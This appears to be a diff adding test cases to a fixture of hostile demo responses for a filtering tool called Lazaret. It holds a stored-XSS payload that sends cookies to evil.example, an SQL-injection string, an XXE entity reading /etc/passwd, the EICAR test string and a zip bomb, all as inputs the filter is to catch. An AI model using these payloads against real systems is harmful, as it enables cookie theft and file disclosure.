@@ -1,4 +1,5 @@
 import { gzipSync } from "node:zlib";
+import { zipBomb } from "./zip-bomb.ts";
 
 /** One response of the demo vendor, and what Lazaret is to make of it. */
 export interface DemoResponse {
@@ -18,6 +19,12 @@ function tagged(text: string): string {
   return Array.from(text, (letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) ?? 0))).join("");
 }
 
+/** The antivirus test file, in base64; in two pieces, so that no scanner takes this source for it. */
+function eicar(): string {
+  const text = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EIC", "AR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].join("");
+  return Buffer.from(text).toString("base64");
+}
+
 /** 64 MiB of zeros in 64 kB. */
 function gzipBomb(): Uint8Array {
   return gzipSync(Buffer.alloc(64 * 2 ** 20), { level: 9 });
@@ -32,6 +39,61 @@ export function demoResponses(): readonly DemoResponse[] {
       expected: "pass",
       headers: JSON_TYPE,
       body: JSON.stringify({ items }),
+    },
+    {
+      path: "/stored-xss",
+      what: "stored cross-site scripting in one of 100 items: that note keeps its safe part, the rest stays byte for byte",
+      expected: "sanitized",
+      headers: JSON_TYPE,
+      body: JSON.stringify({
+        items: items.map((item) =>
+          item.id === 50
+            ? { ...item, note: "in <b>stock</b><script>fetch('//evil.example/'+document.cookie)</script>" }
+            : item,
+        ),
+      }),
+    },
+    {
+      path: "/sql-injection",
+      what: "SQL in a customer's name: that name gives way",
+      expected: "sanitized",
+      headers: JSON_TYPE,
+      body: JSON.stringify({ id: 7, name: "x' OR '1'='1' --", city: "K\u00f6ln" }),
+    },
+    {
+      path: "/customers/7",
+      what: "a customer as its schema wants it",
+      expected: "pass",
+      headers: JSON_TYPE,
+      body: JSON.stringify({ id: 7, name: "Ana Smith", mail: "ana@example.com", balance: 12.5 }),
+    },
+    {
+      path: "/customers/8",
+      what: "schema drift, a number turned into a string and a member that nobody knows: blocked",
+      expected: "blocked",
+      headers: JSON_TYPE,
+      body: JSON.stringify({ id: 8, name: "Bo", balance: "12.50", is_admin: true }),
+    },
+    {
+      path: "/malware",
+      what: "the antivirus test file in base64 in JSON: blocked",
+      expected: "blocked",
+      headers: JSON_TYPE,
+      body: JSON.stringify({ invoice: { name: "invoice.pdf", content: eicar() } }),
+    },
+    {
+      path: "/xxe",
+      what: "XML whose document type reads a file of whoever parses it: blocked",
+      expected: "blocked",
+      headers: { "content-type": "application/xml" },
+      body: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]><a>&f;</a>',
+    },
+    {
+      path: "/zip-bomb",
+      what: "an archive that unpacks to 4 GiB: blocked",
+      expected: "blocked",
+      headers: { "content-type": "application/zip" },
+      body: zipBomb(),
     },
     {
       path: "/hidden-text",
